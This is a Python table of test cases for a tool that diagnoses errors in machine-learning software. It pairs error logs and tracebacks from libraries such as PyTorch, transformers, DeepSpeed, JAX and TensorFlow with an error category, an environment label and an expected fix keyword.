    "bad-configuration:rtx_4000_without_p2p": (tb("NotImplementedError: Using RTX 4000 series doesn't support faster communication broadband via P2P or IB.", "accelerate"), "bad-configuration", "environment", "NCCL_IB_DISABLE"),
    "nccl-infiniband:no_infiniband_device": ("node013:37715:38896 [0] NCCL INFO NET/IB : No device found.\nnode013:37715:38896 [0] NCCL INFO NCCL_IB_DISABLE set by environment to 0.\n", "nccl-infiniband", "environment", "/dev/infiniband"),
    "framework-internal-error:slurm_task_counts_read_as_int": (tb("ValueError: invalid literal for int() with base 10: '1(x2)'", "dmlcloud/core"), "framework-internal-error", "framework-bug", "SLURM_TASKS_PER_NODE"),
    "user-code-error:insightface_pack_not_in_place": ('Error occurred when executing InstantIDFaceAnalysis:\n\n  File "/c/ComfyUI/execution.py", line 152, in recursive_execute\n    output_data, output_ui = get_output_data(obj, input_data_all)\n  File "/venv/lib/python3.10/site-packages/insightface/app/face_analysis.py", line 43, in __init__\n    assert \'detection\' in self.models\n', "user-code-error", "not-environment", "insightface"),
    "version-mismatch:native_returns_other_arity": ('Traceback (most recent call last):\n  File "/opt/venv/lib/python3.9/site-packages/flash_attn/flash_attn_interface.py", line 52, in _flash_attn_varlen_forward\n    out, q, k, v, out_padded, softmax_lse, S_dmask, rng_state = flash_attn_cuda.varlen_fwd(\nValueError: not enough values to unpack (expected 8, got 7)\n', "version-mismatch", "environment", "flash-attn"),
    "bad-configuration:allocator_backend_changed_after_import": (tb('RuntimeError: config[i] == get()->name() INTERNAL ASSERT FAILED at "../c10/cuda/CUDACachingAllocator.cpp":644, please report a bug to PyTorch. Allocator backend parsed at runtime != allocator backend parsed at load time', "torch/cuda"), "bad-configuration", "environment", "PYTORCH_CUDA_ALLOC_CONF"),
    "user-code-error:comfyui_checkpoint_without_vae": ("!!! Exception during processing !!! ERROR: VAE is invalid: None\n\nIf the VAE is from a checkpoint loader node your checkpoint does not contain a valid VAE.\n", "user-code-error", "not-environment", "Load VAE"),
    "user-code-error:forge_checkpoint_without_text_encoders": ("AssertionError: You do not have CLIP state dict!\n", "user-code-error", "not-environment", "VAE / Text Encoder"),
    "user-code-error:gguf_of_another_architecture": ("ValueError: Unexpected architecture type in GGUF file, expected one of flux, sd1, sdxl, t5encoder but got 'pig'\n", "user-code-error", "not-environment", "general.architecture"),
    "framework-internal-error:unsloth_compiler_failed": ("Unsloth: Failed to create dynamic compiled modules!\n", "framework-internal-error", "framework-bug", "unsloth_zoo"),
    "user-code-error:tokenizer_without_pad_token": (tb("ValueError: Asking to pad but the tokenizer does not have a padding token. Please select a token to use as `pad_token` `(tokenizer.pad_token = tokenizer.eos_token e.g.)` or add a new pad token via `tokenizer.add_special_tokens({'pad_token': '[PAD]'})`.", "transformers"), "user-code-error", "not-environment", "tokenizer.eos_token to tokenizer.pad_token"),
    "user-code-error:prompt_fills_max_length": (tb("ValueError: Input length of input_ids is 1024, but `max_length` is set to 1024. This can lead to unexpected behavior. You should consider increasing `max_length` or, better yet, setting `max_new_tokens`.", "transformers"), "user-code-error", "not-environment", "max_new_tokens"),
    "user-code-error:configuration_refused_by_its_schema": (tb("pydantic_core._pydantic_core.ValidationError: 51 validation errors for TrainConfig\nsrc_subword_model\n  Extra inputs are not permitted [type=extra_forbidden, input_value='bpe.model', input_type=str]", "pydantic"), "user-code-error", "not-environment", "src_subword_model"),
    "user-code-error:lightning_two_packages": (tb("TypeError: `model` must be a `LightningModule` or `torch._dynamo.OptimizedModule`, got `LightningModule`", "lightning/pytorch"), "user-code-error", "not-environment", "pytorch_lightning"),
    "user-code-error:zero_offload_with_own_optimizer": (tb("deepspeed.runtime.zero.utils.ZeRORuntimeException: You are using ZeRO-Offload with a client provided optimizer (<class 'transformers.optimization.AdamW'>) which in most cases will yield poor performance.", "deepspeed/runtime"), "user-code-error", "not-environment", "zero_force_ds_cpu_optimizer"),
    "user-code-error:trainer_batch_without_labels": (tb("ValueError: The model did not return a loss from the inputs, only the following keys: logits. For reference, the inputs it received are input_ids,attention_mask.", "transformers"), "user-code-error", "not-environment", "no labels"),
    "bad-configuration:deepspeed_batch_sizes_do_not_multiply": (tb("AssertionError: Check batch related parameters. train_batch_size is not equal to micro_batch_per_gpu * gradient_acc_step * world_size 4096 != 128 * 4 * 1", "deepspeed/runtime"), "bad-configuration", "environment", "the product for 8 processes, and this job has 1 (one GPU here"),
    "user-code-error:quantized_model_moved_or_cast": (tb("ValueError: `.to` is not supported for `4-bit` or `8-bit` bitsandbytes models. Please use the model as it is, since the model has already been set to the correct devices and casted to the correct `dtype`.", "transformers"), "user-code-error", "not-environment", "device_map=..."),
    "user-code-error:tokenized_batch_of_unequal_lengths": (tb("ValueError: Unable to create tensor, you should probably activate truncation and/or padding with 'padding=True' 'truncation=True' to have batched tensors with the same length. Perhaps your features (`labels` in this case) have excessive nesting (inputs type `list` where type `int` is expected).", "transformers"), "user-code-error", "not-environment", "DataCollatorForSeq2Seq"),
    "user-code-error:sampler_given_an_empty_dataset": (tb("ValueError: num_samples should be a positive integer value, but got num_samples=0", "torch/utils/data"), "user-code-error", "not-environment", "len(dataset)"),
    "user-code-error:checkpoint_shape_not_the_models": (tb('ValueError: Trying to set a tensor of shape torch.Size([32000, 4096]) in "weight" (which has shape torch.Size([32001, 4096])), this looks incorrect.', "accelerate/utils"), "user-code-error", "not-environment", "resize_token_embeddings"),
    "out-of-memory:weights_spill_to_disk": (tb("ValueError: The current `device_map` had weights offloaded to the disk. Please provide an `offload_folder` for them. Alternatively, make sure you have `safetensors` installed if the model you are using offers the weights in this format.", "transformers"), "out-of-memory", "not-environment", "offload_folder"),
    "out-of-memory:no_batch_size_fits": (tb("RuntimeError: No executable batch size found, reached zero.", "accelerate/utils"), "out-of-memory", "not-environment", "auto_find_batch_size off"),
    "user-code-error:latents_of_another_model_family": (tb("RuntimeError: Given groups=1, weight of size [512, 16, 3, 3], expected input[1, 4, 128, 32] to have 16 channels, but got 4 channels instead", "comfy/ldm/modules/diffusionmodules"), "user-code-error", "not-environment", "Use the VAE made for the model"),
    "user-code-error:not_an_array_given_to_jax": (tb("TypeError: Cannot interpret value of type <class 'jax._src.custom_derivatives.custom_jvp'> as an abstract array; it does not have a dtype attribute", "optax/_src"), "user-code-error", "not-environment", "eqx.filter(model, eqx.is_array)"),
    "accelerator-unavailable:deepspeed_launcher_found_no_device": (tb("RuntimeError: Unable to proceed, no GPU resources available", "deepspeed/launcher"), "accelerator-unavailable", "environment", "DS_ACCELERATOR=cpu"),
    "unsupported-op:unsloth_single_gpu": (tb("RuntimeError: Unsloth currently does not work on multi GPU setups - sadly we are a 2 brother team so enabling it will require much more work, so we have to prioritize. Please understand!", "unsloth/models"), "unsupported-op", "framework-bug", "CUDA_VISIBLE_DEVICES=0"),
    "user-code-error:jax_task_connected_twice": ("2025-04-05 18:39:10.837611: E external/xla/xla/tsl/distributed_runtime/coordination/coordination_service.cc:962] /job:jax_worker/replica:0/task:1 unexpectedly tried to connect with a different incarnation. It has likely restarted.\n", "user-code-error", "unknown", "if __name__ == '__main__'"),
    "unsupported-op:no_fake_kernel": (tb("torch._subclasses.fake_tensor.UnsupportedOperatorException: aten.linear_backward.default", "torch/_subclasses"), "unsupported-op", "framework-bug", "no fake (meta) implementation"),
    "unsupported-op:no_derivative_formula": (tb("RuntimeError: derivative for aten::heaviside is not implemented", "torch/autograd"), "unsupported-op", "framework-bug", "no derivative formula"),
    "user-code-error:image_processor_given_no_image": (tb("ValueError: Invalid image type. Expected either PIL.Image.Image, numpy.ndarray, torch.Tensor, tf.Tensor or jax.ndarray, but got <class 'str'>.", "transformers"), "user-code-error", "not-environment", "Image.open"),
    "cuda-library-mismatch:onnxruntime_cuda_provider": ("2024-06-15 03:51:08.7326342 [E:onnxruntime:Default, provider_bridge_ort.cc:1744 onnxruntime::TryGetProviderInfo_CUDA] C:\\a\\_work\\1\\s\\onnxruntime\\core\\session\\provider_bridge_ort.cc:1426 onnxruntime::ProviderLibrary::Get [ONNXRuntimeError] : 1 : FAIL : LoadLibrary failed with error 126 \"\" when trying to load \"c:\\Python310\\lib\\site-packages\\onnxruntime\\capi\\onnxruntime_providers_cuda.dll\"\n", "cuda-library-mismatch", "environment", "onnxruntime-gpu"),
    "user-code-error:flash_attention_given_float32": (tb("RuntimeError: FlashAttention only support fp16 and bf16 data type", "flash_attn"), "user-code-error", "not-environment", "torch_dtype"),
    "user-code-error:right_padding_in_batched_generation": (tb("ValueError: You are attempting to perform batched generation with padding_side='right' this may lead to unexpected behaviour for Flash Attention version of Qwen2. Make sure to  call `tokenizer.padding_side  = 'left'` before tokenizing the input.", "transformers"), "user-code-error", "not-environment", "padding_side = 'left'"),
    "user-code-error:lora_target_modules_absent": (tb("ValueError: Target modules {'base_layer'} not found in the base model. Please check the target modules and try again.", "peft"), "user-code-error", "not-environment", "target_modules"),
    "user-code-error:dataset_column_absent": (tb("KeyError: 'Column length not in the dataset. Current columns in the dataset: []'", "datasets"), "user-code-error", "not-environment", "no columns at all"),
    "user-code-error:json_data_file_layout": ("pyarrow.lib.ArrowInvalid: JSON parse error: Column() changed from object to array in row 0\n", "user-code-error", "not-environment", "load_dataset"),
    "user-code-error:arithmetic_on_a_container": (tb("TypeError: unsupported operand type(s) for *: 'float' and 'dict'", "optax/_src"), "user-code-error", "not-environment", "jax.value_and_grad"),
    "out-of-memory:quantized_model_larger_than_gpu": (tb("ValueError: Some modules are dispatched on the CPU or the disk. Make sure you have enough GPU RAM to fit the quantized model. If you want to dispatch the model on the CPU or the disk while keeping these modules in 32-bit, you need to set `load_in_8bit_fp32_cpu_offload=True` and pass a custom `device_map` to `from_pretrained`.", "transformers"), "out-of-memory", "not-environment", "load_in_4bit"),
    "user-code-error:command_line_refused": ("usage: main.py [-h] [-c CONFIG] {fit,validate}\nmain.py: error: 'Configuration check failed :: No action for destination key \"trainer.process_position\" to check its value.'\n", "user-code-error", "not-environment", "main.py --help"),
    "gpu-arch-unsupported:gpu_generation_refused": (tb("RuntimeError: torch._scaled_mm is only supported on devices with compute capability >= 9.0", "torch"), "gpu-arch-unsupported", "environment", "sm_90"),
    "gpu-arch-unsupported:sycl_aspect_missing": (tb("RuntimeError: Required aspect fp64 is not supported on the device", "torch/nn"), "gpu-arch-unsupported", "environment", "torch>=2.5"),
    "cuda-driver-too-old:driver_older_than_ptxas": ("2025-03-04 12:55:32.285132: W external/xla/xla/service/gpu/nvptx_compiler.cc:930] The NVIDIA driver's CUDA version is 12.2 which is older than the PTX compiler version 12.6.77. Because the driver is older than the PTX compiler version, XLA is disabling parallel compilation, which may slow down compilation. You should update your NVIDIA driver or use the NVIDIA-provided CUDA forward compatibility packages.\n", "cuda-driver-too-old", "environment", "CUDA 12.6"),
    "version-mismatch:ptxas_miscompiles_clamping": ("E0103 16:41:38.489316 2217885 ptx_compiler_helpers.cc:87] *** WARNING *** Invoking ptxas with version 12.1.66, which corresponds to a CUDA version <=12.6.2. CUDA versions 12.x.y up to and including 12.6.2 miscompile certain edge cases around clamping.\nPlease upgrade to CUDA 12.6.3 or newer.\n", "version-mismatch", "environment", "nvidia-cuda-nvcc-cu12>=12.6.85"),
    "bad-configuration:mkl_threading_layer_meets_libgomp": ("Error: mkl-service + Intel(R) MKL: MKL_THREADING_LAYER=INTEL is incompatible with libgomp-a34b3233.so.1 library.\n\tTry to import numpy first or set the threading layer accordingly. Set MKL_SERVICE_FORCE_INTEL to force it.\n", "bad-configuration", "environment", "MKL_THREADING_LAYER=GNU"),
    "user-code-error:outside_the_engines_profile": ("ValueError: Couldn't assign input_ids with shape torch.Size([4100]), engine supports [min, opt, max] = [(1,), (1024,), (2048,)]\n", "user-code-error", "not-environment", "--max_input_len"),
    "version-mismatch:engine_of_another_build": ("[12/05/2023-23:50:35] [TRT-LLM] [E] The following expected tensors are not found: {'past_key_value_16', 'present_key_value_31'}\nRuntimeError: Tensor names in engine are not the same as expected, to use this GenerationSession, you need to use PretrainedModel.prepare_inputs to create TRT Network inputs.\n", "version-mismatch", "environment", "tensorrt_llm"),
    "out-of-memory:not_enough_vram_in_words": (tb("RuntimeError: Insufficient VRAM for model and cache", "exllamav2"), "out-of-memory", "not-environment", "max_seq_len"),
    "user-code-error:container_where_a_tensor_was_expected": (tb("AttributeError: 'list' object has no attribute 'view'"), "user-code-error", "not-environment", "several outputs"),
    "user-code-error:distribution_given_invalid_values": (tb("ValueError: Expected parameter loc (Tensor of shape (64, 2)) of distribution Normal(loc: torch.Size([64, 2]), scale: torch.Size([64, 2])) to satisfy the constraint Real(), but found invalid values:\ntensor([[nan, nan],\n        [nan, nan]], grad_fn=<AddmmBackward0>)", "torch/distributions"), "user-code-error", "not-environment", "set_detect_anomaly"),
    "user-code-error:number_from_an_object": ("TypeError: float() argument must be a string or a real number, not 'NoneType'\n", "user-code-error", "not-environment", "None"),
    "api-version-skew:rope_scaling_of_a_newer_config": (tb("ValueError: `rope_scaling` must be a dictionary with two fields, `type` and `factor`, got {'factor': 8.0, 'low_freq_factor': 1.0, 'high_freq_factor': 4.0, 'original_max_position_embeddings': 8192, 'rope_type': 'llama3'}", "transformers"), "api-version-skew", "environment", "transformers>=4.43.2"),
    "api-version-skew:unsloth_cannot_patch_trl": ("SyntaxError: invalid syntax (<string>, line 4)\nRuntimeError: Unsloth: Please file a bug report! Error patching SFTTrainer\n", "api-version-skew", "environment", "trl"),
    "bad-configuration:arch_list_unknown_to_torch": (tb("ValueError: Unknown CUDA arch (9.0+PTX) or GPU not supported", "torch/utils"), "bad-configuration", "environment", "TORCH_CUDA_ARCH_LIST"),
    "unsupported-op:dtensor_op_without_strategy": (tb("NotImplementedError: Operator aten.is_pinned.default does not have a sharding strategy registered.", "torch/distributed/tensor"), "unsupported-op", "framework-bug", "aten.is_pinned.default"),
    "out-of-memory:vllm_kv_cache_too_small": (tb("ValueError: To serve at least one request with the models's max seq len (32768), (4.00 GiB KV cache is needed, which is larger than the available KV cache memory (1.25 GiB). Based on the available memory, the estimated maximum model length is 10224. Try increasing `gpu_memory_utilization` or decreasing `max_model_len` when initializing the engine.", "vllm"), "out-of-memory", "not-environment", "--max-model-len 10224"),
    "out-of-memory:directml_oom": ("RuntimeError: Could not allocate tensor with 58982400 bytes. There is not enough GPU video memory available!\n", "out-of-memory", "not-environment", "--cpu"),
    "user-code-error:comfyui_model_type_unknown": (tb("RuntimeError: ERROR: Could not detect model type of: /ComfyUI/models/checkpoints/flux1-dev.safetensors", "comfy"), "user-code-error", "not-environment", "Load Diffusion Model"),
    "user-code-error:comfyui_checkpoint_without_clip": ("!!! Exception during processing !!! CLIPTextEncode 'NoneType' object has no attribute 'tokenize'\n", "user-code-error", "not-environment", "text encoder"),
    "user-code-error:alphafold_input_rejected": (tb("ValueError: Failed to load fold input from /root/af_input/fold.json. The JSON at /root/af_input/fold.json was detected to be an AlphaFold 3 JSON since the top-level is not a list.", "alphafold3"), "user-code-error", "not-environment", "/root/af_input/fold.json"),
    "unsupported-op:dispatch_key_refused": (tb("RuntimeError: new(): expected key in DispatchKeySet(CPU, CUDA, HIP, XLA, MPS, IPU, XPU, HPU, Lazy, Meta) but got: PrivateUse1", "transformers"), "unsupported-op", "framework-bug", "torch-directml"),
    "unsupported-op:directml_inference_mode": (tb("RuntimeError: Cannot set version_counter for inference tensor", "modules/dml/amp"), "unsupported-op", "framework-bug", "no_grad"),
    "user-code-error:broken_weights_file": (tb("safetensors_rust.SafetensorError: Error while deserializing header: HeaderTooLarge", "safetensors"), "user-code-error", "not-environment", "git lfs pull"),
    "module-not-found:flash_attention_2_missing": (tb("ImportError: FlashAttention2 has been toggled on, but it cannot be used due to the following error: the package flash_attn seems to be not installed. Please refer to the documentation of https://huggingface.co/docs/transformers/perf_infer_gpu_one#flashattention-2 to install Flash Attention 2.", "transformers"), "module-not-found", "environment", "sdpa"),
    "out-of-memory:cudnn_found_no_algorithm": (tb("RuntimeError: Unable to find a valid cuDNN algorithm to run convolution", "torch"), "out-of-memory", "not-environment", "batch"),
    "api-version-skew:keras3_optimizer_argument": (tb("ValueError: Argument(s) not recognized: {'lr': 0.001}", "keras"), "api-version-skew", "environment", "learning_rate"),
    "api-version-skew:binding_arguments_refused": (tb("TypeError: (): incompatible function arguments. The following argument types are supported:\n    1. (self, aval: object, sharding: object, arrays: list, committed: bool, _skip_checks: bool = False) -> None\n\nInvoked with types: jaxlib.xla_extension.ArrayImpl, generator", "gymnasium"), "api-version-skew", "environment", "gymnasium"),
    "framework-internal-error:onednn_jit_failed": ("bad err=11 in Xbyak::Error\n" + tb("RuntimeError: could not create a primitive", "torch"), "framework-internal-error", "framework-bug", "oneDNN"),
    "module-not-found:compiled_extension_missing": (tb("ModuleNotFoundError: No module named 'mmcv._ext'", "mmcv"), "module-not-found", "environment", "mmcv-full"),
    "api-version-skew:removed_in_release": (tb("NotImplementedError: Support for `training_epoch_end` has been removed in v2.0.0. `Model` implements this method. You can use the `on_train_epoch_end` hook instead.", "lightning"), "api-version-skew", "environment", "lightning<2.0.0"),
    "api-version-skew:metric_task_required": (tb("TypeError: Accuracy.__new__() missing 1 required positional argument: 'task'"), "api-version-skew", "environment", "torchmetrics<0.11"),
    "bad-configuration:torch_logs_invalid": ("ValueError: \nInvalid log settings: aot_g, must be a comma separated list of fully\nqualified module names, registered log names or registered artifact names.\n", "bad-configuration", "environment", "unset TORCH_LOGS"),
    "bad-configuration:triton_interpreter_on": (tb("AttributeError: 'InterpretedFunction' object has no attribute 'cache_key'", "triton"), "bad-configuration", "environment", "unset TRITON_INTERPRET"),
    "user-code-error:numpy_object_array_to_tensor": (tb("ValueError: Failed to convert a NumPy array to a Tensor (Unsupported object type float).", "tensorflow"), "user-code-error", "not-environment", "astype(np.float32)"),
    "unsupported-op:mps_op_input_type": (tb("RuntimeError: MPS device does not support addmm for non-float input", "torch"), "unsupported-op", "framework-bug", "aten::addmm"),
    "framework-internal-error:mlir_operands_not_broadcastable": ("Error was raised  : input types 'tensor<20xf16>' and 'tensor<1xf32>' are not broadcast compatible\n", "framework-internal-error", "framework-bug", "MPS"),
    "api-version-skew:typed_prng_key_to_numpy": (tb("TypeError: JAX array with PRNGKey dtype cannot be converted to a NumPy array. Use jax.random.key_data(arr) if you wish to extract the underlying integer array.", "pertpy"), "api-version-skew", "environment", "pertpy"),
    "api-version-skew:keras_layer_of_the_other_keras": (tb("ValueError: Only instances of `keras.Layer` can be added to a Sequential model. Received: <tensorflow_hub.keras_layer.KerasLayer object at 0x7f802b750d50> (of type <class 'tensorflow_hub.keras_layer.KerasLayer'>)", "keras"), "api-version-skew", "environment", "tf_keras"),
    "undefined-symbol:entry_point_not_located": ("ImportError: The procedure entry point ?element_size@TensorIteratorBase@at@@QEBA_JH@Z could not be located in the dynamic link library C:\\env\\Lib\\site-packages\\xformers\\_C.pyd.\n", "undefined-symbol", "environment", "installed torch"),
    "module-not-found:framework_extension_not_installed": ("INFO transformer_engine.common - Could not find package transformer_engine_torch. Install transformer-engine using 'pip3 install transformer-engine[pytorch]==VERSION'\n", "module-not-found", "environment", "transformer-engine[pytorch]"),
    "cuda-library-mismatch:onnxruntime_cuda_not_loaded": ("onnxruntime_pybind_state.cc:857 onnxruntime::python::CreateExecutionProviderInstance CUDA_PATH is set but CUDA wasnt able to be loaded. Please install the correct version of CUDA andcuDNN as mentioned in the GPU requirements page\n", "cuda-library-mismatch", "environment", "onnxruntime-gpu"),
    "framework-internal-error:wrapper_hides_the_model": (tb("AttributeError: 'DistributedDataParallel' object has no attribute 'config'", "torch"), "framework-internal-error", "framework-bug", "accelerator.unwrap_model(model).config"),
    "missing-library:cudnn_not_loaded": ("tensorflow.python.framework.errors_impl.NotFoundError: Graph execution error:\n\nDNN library is not found.\n\t [[{{node sequential/conv2d/Conv2D}}]]\n", "missing-library", "environment", "cuDNN"),
    "user-code-error:tf_devices_configured_too_late": (tb("RuntimeError: Physical devices cannot be modified after being initialized", "tensorflow"), "user-code-error", "not-environment", "before any op"),
    "unsupported-op:tf_device_placement": (tb("tensorflow.python.framework.errors_impl.InvalidArgumentError: Cannot assign a device for operation x: Could not satisfy explicit device specification '/device:GPU:0' because no supported kernel for GPU devices is available.", "tensorflow"), "unsupported-op", "framework-bug", "set_soft_device_placement"),
    "missing-library:libtpu_missing": (tb("ImportError: libtpu not found", "torch_xla"), "missing-library", "environment", "torch_xla[tpu]"),
    "unsupported-op:no_default_backend_for_accelerator": (tb("ValueError: We detected accelerator mps on your machine. But we don't know which communication backend to use for this accelerator. Please specify the `backend` argument in the `init_process_group` call.", "torch"), "unsupported-op", "framework-bug", "backend='gloo'"),
    "bad-configuration:config_variable_refused": (tb("RuntimeError: PYTORCH_CUDA_ALLOC_CONF: max_split_size_mb 10 is too small, must be > 20", "torch"), "bad-configuration", "environment", "PYTORCH_CUDA_ALLOC_CONF"),
    "missing-library:shared_object_missing": (tb("ImportError: libcublasLt.so.12: cannot open shared object file: No such file or directory"), "missing-library", "environment", "nvidia-cublas-cu12"),
    "missing-library:own_module_missing": (tb("OSError: fbgemm_gpu_config.so: cannot open shared object file: No such file or directory", "fbgemm_gpu"), "missing-library", "environment", "fbgemm_gpu_config.so"),
    "api-version-skew:keras_object_of_the_other_keras": (tb("ValueError: Could not interpret optimizer identifier: <keras.src.optimizers.adam.Adam object at 0x7fee7403a950>", "tf_keras"), "api-version-skew", "environment", "TF_USE_LEGACY_KERAS"),
    "user-code-error:keras3_refuses_positional_value": (tb("ValueError: Only input tensors may be passed as positional arguments. The following argument value should be passed as a keyword argument: 42 (of type <class 'str'>)", "keras"), "user-code-error", "not-environment", "keyword argument"),
    "missing-library:ctypes_dll_not_found": (tb("FileNotFoundError: Could not find module 'C:\\\\env\\\\Lib\\\\site-packages\\\\torchcodec\\\\libtorchcodec_core8.dll' (or one of its dependencies). Try using the full path with constructor syntax.", "torchcodec"), "missing-library", "environment", "libtorchcodec_core8.dll"),
    "missing-library:system_library_not_found": (tb("OSError: sndfile library not found", "soundfile"), "missing-library", "environment", "libsndfile"),
    "build-failure:linker_cannot_find": ("/usr/bin/ld: cannot find -lcudart: No such file or directory\ncollect2: error: ld returned 1 exit status\n", "build-failure", "environment", "LIBRARY_PATH"),
    "bad-configuration:allocator_option_unknown": (tb("RuntimeError: Unrecognized CachingAllocator option: expandable_segments", "torch"), "bad-configuration", "environment", "PYTORCH_CUDA_ALLOC_CONF"),
    "user-code-error:device_type_unknown": (tb("RuntimeError: Expected one of cpu, cuda, ipu, xpu, mkldnn, opengl, opencl, ideep, hip, ve, fpga, maia, xla, lazy, vulkan, mps, meta, hpu, mtia, privateuseone device type at start of device string: gpu", "torch"), "user-code-error", "not-environment", "'cuda'"),
    "api-version-skew:transformers_model_type_unknown": ('Traceback (most recent call last):\n  File "/home/me/run.py", line 5, in <module>\n    model = AutoModelForCausalLM.from_pretrained("Qwen/Qwen2-7B")\n  File "/env/lib/python3.10/site-packages/transformers/models/auto/configuration_auto.py", line 671, in __getitem__\n    raise KeyError(key)\nKeyError: \'qwen2\'\n', "api-version-skew", "environment", "transformers"),
    "user-code-error:sampled_from_inf_or_nan": (tb("RuntimeError: probability tensor contains either `inf`, `nan` or element < 0", "transformers"), "user-code-error", "not-environment", "bfloat16"),
    "user-code-error:mixed_dtype_on_cpu": (tb("RuntimeError: mixed dtype (CPU): expect parameter to have scalar type of Float", "torch"), "user-code-error", "not-environment", "model.cuda()"),
    "cuda-illegal-access:cublas_status": (tb("RuntimeError: CUDA error: CUBLAS_STATUS_EXECUTION_FAILED when calling `cublasGemmEx( handle, opa, opb, m, n, k, &falpha, a, CUDA_R_16F, lda, b, CUDA_R_16F, ldb, &fbeta, c, CUDA_R_16F, ldc, CUDA_R_32F, CUBLAS_GEMM_DEFAULT_TENSOR_OP)`", "torch"), "cuda-illegal-access", "unknown", "CUDA_LAUNCH_BLOCKING"),
    "unsupported-op:data_dependent_shape": (tb("torch._subclasses.fake_tensor.DynamicOutputShapeException: aten.nonzero.default", "torch"), "unsupported-op", "framework-bug", "capture_dynamic_output_shape_ops"),
    "accelerator-unavailable:driver_not_reachable": ("NVIDIA-SMI has failed because it couldn't communicate with the NVIDIA driver. Make sure that the latest NVIDIA driver is installed and running.\n", "accelerator-unavailable", "environment", "kernel module"),
    "nccl-network:gloo_interface_missing": (tb("RuntimeError: [enforce fail at ../third_party/gloo/gloo/transport/tcp/device.cc:83] ifa != nullptr. Unable to find address for: eth0", "torch"), "nccl-network", "environment", "GLOO_SOCKET_IFNAME"),
    "nccl-network:gloo_peer_gone": ("[E pair.cc:589] Read error [10.0.0.2]:23456: Connection reset by peer\n", "nccl-network", "unknown", "first failure"),
    "api-version-skew:callable_parameter_history": (tb("TypeError: StableDiffusionPipeline.__call__() got an unexpected keyword argument 'ip_adapter_image'"), "api-version-skew", "environment", "diffusers>=0.24"),
    "missing-library:dynamic_library_not_loaded": ("2024-01-01 00:00:00.000000: E tensorflow/tsl/platform/default/dso_loader.cc:67] Could not load dynamic library 'libcudart.so.12'; dlerror: libcudart.so.12: cannot open shared object file\n", "missing-library", "environment", "libcudart.so.12"),
    "missing-library:unable_to_load": ("Unable to load any of {libcudnn_graph.so.9.1.0, libcudnn_graph.so.9.1, libcudnn_graph.so.9, libcudnn_graph.so}\n", "missing-library", "environment", "libcudnn_graph"),
    "missing-library:dylib_not_loaded": (tb("OSError: dlopen(/x/_C.so, 0x0002): Library not loaded: @rpath/libomp.dylib"), "missing-library", "environment", "libomp"),
    "missing-library:dll_load_failed": (tb("ImportError: DLL load failed while importing _C: The specified module could not be found."), "missing-library", "environment", "Visual C++"),
    "missing-library:dll_initialisation_failed": (tb('OSError: [WinError 1114] A dynamic link library (DLL) initialization routine failed. Error loading "C:\\\\py\\\\torch\\\\lib\\\\c10.dll" or one of its dependencies.'), "missing-library", "environment", "Visual C++"),
    "missing-library:tensorrt_missing": ("2024-01-01 00:00:00.0: W tensorflow/compiler/tf2tensorrt/utils/py_utils.cc:38] TF-TRT Warning: Could not find TensorRT\n", "missing-library", "environment", "TensorRT"),
    "missing-library:dll_missing": ("W tensorflow/stream_executor/platform/default/dso_loader.cc:64] Could not load dynamic library 'cudart64_110.dll'; dlerror: cudart64_110.dll not found\n", "missing-library", "environment", "cudart64_110.dll"),
    "undefined-symbol:undefined_symbol": (tb("ImportError: /opt/venv/lib/python3.11/site-packages/flash_attn_2_cuda.cpython-311-x86_64-linux-gnu.so: undefined symbol: _ZN3c104cuda9SetDeviceEi"), "undefined-symbol", "environment", "flash_attn_2_cuda"),
    "undefined-symbol:symbol_not_found": (tb("ImportError: dlopen(/x/_ext.so, 2): Symbol not found: __ZN3c1017RegisterOperators"), "undefined-symbol", "environment", "RegisterOperators"),
    "undefined-symbol:procedure_not_found": (tb("OSError: [WinError 127] The specified procedure could not be found"), "undefined-symbol", "environment", "WinError 127"),
    "glibc-version:runtime_too_old": (tb("ImportError: /usr/lib/x86_64-linux-gnu/libstdc++.so.6: version `GLIBCXX_3.4.30' not found (required by /opt/venv/lib/python3.11/site-packages/scipy/_lib/_x.so)"), "glibc-version", "environment", "GLIBCXX_3.4.30"),
    "bad-configuration:dataset_script_not_trusted": (tb("ValueError: Loading this dataset requires you to execute custom code contained in the dataset repository on your local machine. Please set the option `trust_remote_code=True` to permit the loading of this dataset.", "datasets/load"), "bad-configuration", "environment", "HF_DATASETS_TRUST_REMOTE_CODE"),
    "api-version-skew:dataset_scripts_removed": (tb("RuntimeError: Dataset scripts are no longer supported, but found hellaswag.py", "datasets/load"), "api-version-skew", "environment", "datasets<4"),
    "api-version-skew:auto_pipeline_unknown": (tb("ValueError: AutoPipeline can't find a pipeline linked to FluxPipeline for None", "diffusers/pipelines/auto_pipeline"), "api-version-skew", "environment", "FluxPipeline"),
    "api-version-skew:attentions_need_eager": (tb("ValueError: The `output_attentions` attribute is not supported when using the `attn_implementation` set to sdpa. Please set it to 'eager' instead.", "transformers/modeling_utils"), "api-version-skew", "environment", 'attn_implementation="eager"'),
    "version-mismatch:deepspeed_op_cuda_mismatch": (tb('    raise Exception(f">- DeepSpeed Op Builder: Installed CUDA version {sys_cuda_version} does not match the "', "deepspeed/ops/op_builder/builder"), "version-mismatch", "environment", "CUDA_HOME"),
    "module-not-found:no_module_named": (tb("ModuleNotFoundError: No module named 'cv2'"), "module-not-found", "environment", "opencv-python"),
    "user-code-error:dataset_column_missing": ('  File "/env/lib/python3.11/site-packages/trl/trainer/sft_trainer.py", line 513, in tokenize\n    element[dataset_text_field]\n  File "/env/lib/python3.11/site-packages/datasets/formatting/formatting.py", line 277, in __getitem__\n    value = self.data[key]\nKeyError: \'text\'\n', "user-code-error", "not-environment", "no column 'text'"),
    "api-version-skew:space_of_another_gym": (tb("AssertionError: The algorithm only supports (<class 'gym.spaces.box.Box'>, <class 'gym.spaces.discrete.Discrete'>) as action spaces but Discrete(4) was provided", "stable_baselines3/common"), "api-version-skew", "environment", "stable-baselines3>=2.0"),
    "module-not-found:requires_package": (tb("ImportError: LlamaTokenizer requires the SentencePiece library but it was not found in your environment.", "transformers"), "module-not-found", "environment", "SentencePiece"),
    "api-version-skew:submodule_gone": (tb("ModuleNotFoundError: No module named 'jax.experimental.maps'", "flax"), "api-version-skew", "environment", "jax.experimental.maps"),
    "api-version-skew:module_has_no_attribute": (tb("AttributeError: module 'numpy' has no attribute 'float'", "imgaug"), "api-version-skew", "environment", "numpy"),
    "api-version-skew:cannot_import_name": (tb("ImportError: cannot import name 'cached_download' from 'huggingface_hub' (/opt/venv/lib/python3.11/site-packages/huggingface_hub/__init__.py)", "diffusers"), "api-version-skew", "environment", "huggingface_hub"),
    "api-version-skew:unexpected_keyword": (tb("TypeError: forward() got an unexpected keyword argument 'scale'", "diffusers"), "api-version-skew", "environment", "scale"),
